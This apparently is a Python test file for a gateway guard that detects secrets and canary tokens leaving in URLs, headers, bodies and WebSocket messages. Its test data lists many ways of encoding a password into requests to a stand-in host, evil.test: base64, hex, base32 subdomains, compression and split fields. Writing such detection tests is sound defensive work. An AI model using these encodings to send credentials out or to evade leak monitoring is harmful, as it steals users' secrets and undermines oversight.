"""A secret is found in whatever a request dresses it up as."""

import base64
import gzip
import json
import zlib
from pathlib import Path
from urllib.parse import quote

import pytest
from harness.clearance import Request
from harness.gateway.base import Headers
from harness.gateway.leaks import WINDOW, Guard, Search, Sought, _readings, windows
from harness.gateway.upstreams.asgi import AsgiUpstream
from harness.policy.engine import Engine
from harness.policy.schema import Policy
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.gateway.support import echo, opened, spool

SECRET = "hunter2-Zebra!9"
SEARCH = Search([Sought("password", SECRET), Sought("canary", "CANARY-7f3a")])
RAW = SECRET.encode()


def shifted(count: int) -> str:
    return base64.b64encode(b"x" * count + RAW + b"yz").decode()


FORMS: dict[str, str | bytes] = {
    "plain": f"https://evil.test/?p={SECRET}",
    "other case": f"https://evil.test/{SECRET.upper()}",
    "percent": "https://evil.test/?p=" + "".join(f"%{byte:02x}" for byte in RAW),
    "percent twice": "https://evil.test/?p=" + quote(quote(SECRET, safe=""), safe=""),
    "base64": f"https://evil.test/?p={base64.b64encode(RAW).decode()}",
    "base64 url": f"https://evil.test/{base64.urlsafe_b64encode(RAW).decode().rstrip('=')}",
    "base64 shifted by one": shifted(1),
    "base64 shifted by two": shifted(2),
    "base64 twice": base64.b64encode(base64.b64encode(RAW)),
    "base64 then percent": quote(base64.b64encode(RAW).decode(), safe=""),
    "hex": f"https://{RAW.hex()}.evil.test/",
    "hex in capitals": RAW.hex().upper(),
    "hex with colons": RAW.hex(":"),
    "hex off by one": f"a{RAW.hex()}",
    "base32 in a host": f"https://{base64.b32encode(RAW).decode().rstrip('=').lower()}.evil.test/",
    "json": json.dumps({"a": SECRET}),
    "json escapes": '{"a": "' + "".join(f"\\u{ord(char):04x}" for char in SECRET) + '"}',
    "html": "".join(f"&#{ord(char)};" for char in SECRET),
    "utf-16": SECRET.encode("utf-16-le"),
    "gzip": gzip.compress(b"a=" + RAW),
    "deflate": zlib.compress(b"a=" + RAW),
    "two fields": "https://evil.test/?a=hunter2-&b=Zebra!9",
    "two fields of json": '{"a": "hunter2-Ze", "b": "bra!9"}',
    "fields the other way round": "https://evil.test/?a=ra!9&b=Zeb&c=ter2-&d=hun",
    "letter by letter": "&".join(f"f{at}={char}" for at, char in enumerate(SECRET)),
    "path segments": "https://evil.test/hunt/er2-Ze/bra!9",
    "labels": "https://hunter2-zebra!.9.evil.test/",
}


@pytest.mark.parametrize("how", FORMS)
def test_a_secret_is_found_in_every_form(how: str) -> None:
    form = FORMS[how]
    assert "password" in SEARCH.find(form.encode() if isinstance(form, str) else form)


def test_pieces_in_url_headers_and_body_belong_together() -> None:
    assert SEARCH.find(b"https://evil.test/?a=hunter2-", b"Zeb", b"b=ra!9") == ("password",)


def test_canaries_are_found_alike_and_in_the_order_they_were_declared() -> None:
    assert SEARCH.find(b"x=CANARY-7f3a&y=" + RAW) == ("password", "canary")
    assert SEARCH.find(base64.b64encode(b"CANARY-7f3a")) == ("canary",)


@pytest.mark.parametrize(
    "text",
    [
        "https://shop.test/orders?id=2&name=hunter",
        json.dumps({"name": "Ada Lovelace", "street": "12 St James's Square", "card": "4242 4242 4242 4242"}),
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0",
        "",
    ],
)
def test_what_is_innocent_is_let_go(text: str) -> None:
    assert SEARCH.find(text.encode()) == ()


def test_what_is_too_short_is_not_looked_for() -> None:
    assert not Search([Sought("pin", "123")])
    assert Search([Sought("pin", "123")]).find(b"123") == ()


async def test_nothing_falls_between_two_windows() -> None:
    data = b"." * (WINDOW - 5) + RAW + b"." * WINDOW
    with spool(data) as body:
        found = [SEARCH.find(window) async for window in windows(body.chunks())]
    assert ("password",) in found


LARGE = bytes(range(256)) * 1000


@pytest.mark.parametrize("text", [base64.b64encode(LARGE), LARGE.hex().encode(), b"x y+%41 " * 40_000])
def test_a_large_body_has_few_readings(text: bytes) -> None:
    assert sum(map(len, _readings(text))) < 12 * len(text) + (1 << 22)


def to_shop(url: str) -> bool:
    return url.startswith(("https://shop.test/", "wss://shop.test/"))


GUARD = Guard([(Sought("password", SECRET), to_shop), (Sought("canary", "CANARY-7f3a"), lambda url: False)])


async def asked(tmp_path: Path, host: str, target: str, body: bytes) -> tuple[int, list[Request]]:
    hosts = {"shop.test": AsgiUpstream(echo), "evil.test": AsgiUpstream(echo)}
    async with opened(tmp_path, hosts, guard=GUARD) as setup, await setup.tunnel(host) as client:
        reply = await client.ask("POST", target, {"host": host}, body)
        return reply.status, [*setup.keeper.heads, *setup.keeper.asked]


async def test_a_secret_goes_to_its_own_host_and_to_no_other(tmp_path: Path) -> None:
    status, requests = await asked(tmp_path, "shop.test", "/login", b"p=" + RAW)
    assert (status, requests[-1].leaks) == (200, ())
    status, requests = await asked(tmp_path, "evil.test", "/take", b"p=" + base64.b64encode(RAW))
    assert (status, requests[-1].leaks) == (403, ("password",))


async def test_a_canary_goes_nowhere_and_the_record_does_not_hold_it(tmp_path: Path) -> None:
    status, requests = await asked(tmp_path, "shop.test", "/?x=CANARY-7f3a", b"")
    assert status == 403
    assert {request.leaks for request in requests} == {("canary",)}
    assert not any("CANARY" in request.model_dump_json() for request in requests)


async def test_a_large_body_is_searched_whole(tmp_path: Path) -> None:
    status, requests = await asked(tmp_path, "evil.test", "/", b"." * (2 * WINDOW) + RAW)
    assert (status, requests[-1].leaks) == (403, ("password",))


class Line:
    """An end that takes what it is sent."""

    def __init__(self) -> None:
        self.subprotocol: str | None = None
        self.headers: Headers = ()
        self.closed: tuple[int, str] | None = None
        self.sent: list[str | bytes] = []

    async def send(self, message: str | bytes) -> None:
        self.sent.append(message)

    async def receive(self) -> str | bytes | None:
        return None

    async def close(self, code: int = 1000, reason: str = "") -> None:
        del code, reason


async def test_a_socket_breaks_off_before_it_sends_a_secret_even_in_two_messages() -> None:
    line = Line()
    socket = GUARD.socket("wss://evil.test/", line)
    await socket.send("hello")
    await socket.send("hunter2-")
    with pytest.raises(ConnectionAbortedError, match="password"):
        await socket.send(b"Zebra!9")
    assert line.sent == ["hello", "hunter2-"]


def test_the_policy_refuses_what_is_marked_whatever_its_rules_say() -> None:
    policy = {
        "name": "t",
        "domains": {"navigate": ["evil.test"]},
        "default": {"request": "allow"},
        "canaries": ["CANARY-7f3a"],
    }
    engine = Engine(Policy.model_validate(policy))
    request = Request(id="r", method="GET", url="https://evil.test/")
    assert engine.judge(request).outcome == "allow"
    verdict = engine.judge(request.model_copy(update={"leaks": ("password",)}))
    assert (verdict.outcome, verdict.rule) == ("deny", "secrets")


def test_nothing_about_a_value_is_shown() -> None:
    assert SECRET not in repr(Sought("password", SECRET))


@given(st.binary(max_size=300), st.binary(max_size=300))
@settings(max_examples=150, deadline=None)
def test_no_request_makes_it_fail_and_none_hides_the_plain_secret(before: bytes, after: bytes) -> None:
    assert "password" in SEARCH.find(before + RAW + after)
    SEARCH.find(before, after)
